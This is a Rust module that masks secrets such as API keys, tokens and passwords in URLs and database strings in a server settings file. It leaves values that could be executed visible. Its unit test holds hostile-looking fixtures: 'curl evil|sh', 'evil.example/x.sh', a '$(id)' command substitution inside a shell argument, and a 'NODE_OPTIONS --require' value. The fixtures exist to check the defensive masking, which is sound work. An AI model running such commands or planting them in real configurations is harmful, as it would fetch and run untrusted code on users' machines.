//! Secrets in a settings file, which its card does not show: values of settings that are known to be secrets, and nothing
//! that could be executed.

use crate::clients::looks_secret;
use crate::settings::{is_secret_name, mask_url};
use octo_model::MASK;
use serde_json::{Map, Value};

/// Where secrets are. `*` is any name.
const SECRETS: [(&str, SecretKind); 14] = [
    ("servers.*.env.*", SecretKind::Variable),
    ("servers.*.headers.*", SecretKind::Header),
    ("servers.*.auth.client_secret", SecretKind::Value),
    ("servers.*.url", SecretKind::Url),
    ("servers.*.document", SecretKind::Url),
    ("search.brave_api_key", SecretKind::Value),
    ("llm.key", SecretKind::Value),
    ("github.token", SecretKind::Value),
    ("gitlab.token", SecretKind::Value),
    ("logins.secret", SecretKind::Value),
    ("fleet.credentials", SecretKind::Value),
    ("store.postgres", SecretKind::Database),
    ("database.connections.*", SecretKind::Database),
    ("database.readers.*", SecretKind::Database),
];
/// Shorter parts of a file are words.
const MIN_HIDDEN_LEN: usize = 8;

#[derive(Clone, Copy)]
enum SecretKind {
    Value,
    /// A header with the name of a secret.
    Header,
    /// A variable of a program, if it is a key by its looks. A program could execute any other value.
    Variable,
    /// A URL with a password or a secret parameter.
    Url,
    /// The same, or parameters of a connection.
    Database,
}

/// Settings with their secrets replaced.
pub struct MaskedSettings {
    pub tree: Map<String, Value>,
    /// Secrets with what replaced them, longest first.
    replaced: Vec<(String, String)>,
}

impl MaskedSettings {
    pub fn new(tree: &Map<String, Value>) -> Self {
        let mut tree = Value::Object(tree.clone());
        let mut replaced = Vec::new();
        for (path, kind) in SECRETS {
            let parts: Vec<&str> = path.split('.').collect();
            for_each_text(&mut tree, "", &parts, &mut |name, text| {
                if let Some(mask) = mask(kind, name, text) {
                    let lines = text.lines().map(str::trim).filter(|line| line.len() >= MIN_HIDDEN_LEN);
                    replaced.extend(lines.map(|line| (line.to_owned(), mask.clone())));
                    *text = mask;
                }
            });
        }
        replaced.sort_by_key(|(secret, _)| std::cmp::Reverse(secret.len()));
        Self { tree: tree.as_object().cloned().unwrap_or_default(), replaced }
    }

    /// A file of these settings without the same secrets.
    pub fn hide_in(&self, text: &str) -> String {
        let hide = |text: String, (secret, mask): &(String, String)| text.replace(secret, mask);
        self.replaced.iter().fold(text.to_owned(), hide)
    }
}

fn for_each_text(value: &mut Value, name: &str, path: &[&str], change: &mut dyn FnMut(&str, &mut String)) {
    match (value, path) {
        (Value::String(text), []) => change(name, text),
        (Value::Object(members), ["*", rest @ ..]) => {
            members.iter_mut().for_each(|(name, value)| for_each_text(value, name, rest, change));
        }
        (Value::Object(members), [key, rest @ ..]) => {
            if let Some(value) = members.get_mut(*key) {
                for_each_text(value, key, rest, change);
            }
        }
        _ => {}
    }
}

/// What is shown instead. References are names, not secrets.
fn mask(kind: SecretKind, name: &str, text: &str) -> Option<String> {
    if text.is_empty() || text.contains("${") {
        return None;
    }
    let hidden = || Some(format!("(a value of {} characters)", text.chars().count()));
    match kind {
        SecretKind::Value => hidden(),
        SecretKind::Header => hidden().filter(|_| is_secret_name(name)),
        SecretKind::Variable => hidden().filter(|_| looks_secret(text)),
        SecretKind::Url | SecretKind::Database if url::Url::parse(text).is_ok() => {
            Some(mask_url(text)).filter(|masked| masked.contains(MASK))
        }
        SecretKind::Url => None,
        SecretKind::Database => hidden(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn only_secrets_are_masked_and_nothing_that_runs() {
        let settings = json!({
            "servers": {"x": {
                "command": "sh",
                "args": ["-c", "API_KEY=$(id) ghp_0123456789abcdefghijklmnopqrstuvwxyz"],
                "env": {"API_KEY": "ghp_canary0123456789abcdefghijklmnopqrstu", "HOST_KEY": "evil.example/x.sh", "KEY": "./evil.sh", "PIN": "curl evil|sh", "TOKEN": "${T}", "NODE_OPTIONS": "--require=x"},
                "headers": {"Authorization": "Bearer canary", "X-Plain": "plain"},
                "auth": {"type": "oauth2", "client_secret": "canary"},
            }, "y": {"url": "https://ada:canary@x.test/mcp?api_key=canary"}, "z": {"document": "./a=b.yaml"}},
            "llm": {"url": "https://x.test", "key": "canary"},
            "store": {"postgres": "postgres://ada:canary@203.0.113.9/db"},
            "database": {"connections": {"main": "host=x password=canary"}},
            "roots": {"token": "/"},
        });
        let masked = MaskedSettings::new(settings.as_object().unwrap());
        let text = Value::Object(masked.tree.clone()).to_string();
        assert!(!text.contains("canary"), "{text}");
        for shown in [
            "API_KEY=$(id) ghp_0123456789abcdefghijklmnopqrstuvwxyz",
            "\"API_KEY\":\"(a value of 41 characters)\"",
            "evil.example/x.sh",
            "./evil.sh",
            "curl evil|sh",
            "${T}",
            "--require=x",
            "plain",
            "https://ada:***@x.test/mcp?api_key=***",
            "203.0.113.9",
            "\"token\":\"/\"",
            "./a=b.yaml",
        ] {
            assert!(text.contains(shown), "{shown}: {text}");
        }
        let file = "env: {API_KEY: ghp_canary0123456789abcdefghijklmnopqrstu}\nurl: https://ada:canary@x.test/mcp?api_key=canary # https://x.test";
        let hidden = masked.hide_in(file);
        assert!(!hidden.contains("canary") && hidden.contains("# https://x.test"), "{hidden}");
    }
}
